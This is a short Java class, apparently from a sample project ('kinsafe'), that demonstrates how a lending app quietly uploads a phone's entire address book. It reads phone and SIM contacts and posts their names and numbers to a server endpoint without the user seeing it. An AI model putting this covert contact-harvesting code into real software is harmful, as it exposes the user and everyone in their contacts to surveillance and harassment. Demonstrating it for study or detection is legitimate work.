package org.kinsafe.sample.harvesting;

import android.content.ContentResolver;
import android.util.Log;
import java.io.IOException;
import java.util.List;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;
import org.kinsafe.sample.common.Api;

/** Shows the upload: the whole book becomes one JSON object and goes to the lender's server, unseen by the user. */
final class BookUpload {
  private static final String TAG = "BookUpload";

  private BookUpload() {}

  static void run(ContentResolver resolver) {
    List<Person> people = AddressBook.readPhone(resolver);
    people.addAll(AddressBook.readSim(resolver));
    try {
      Api.post("contacts/upload", toJson(people));
    } catch (IOException | JSONException e) {
      Log.w(TAG, "not sent", e);
    }
  }

  private static JSONObject toJson(List<Person> people) throws JSONException {
    JSONArray contacts = new JSONArray();
    for (Person person : people) {
      contacts.put(new JSONObject().put("name", person.name).put("number", person.number));
    }
    return new JSONObject().put("count", people.size()).put("contacts", contacts);
  }
}
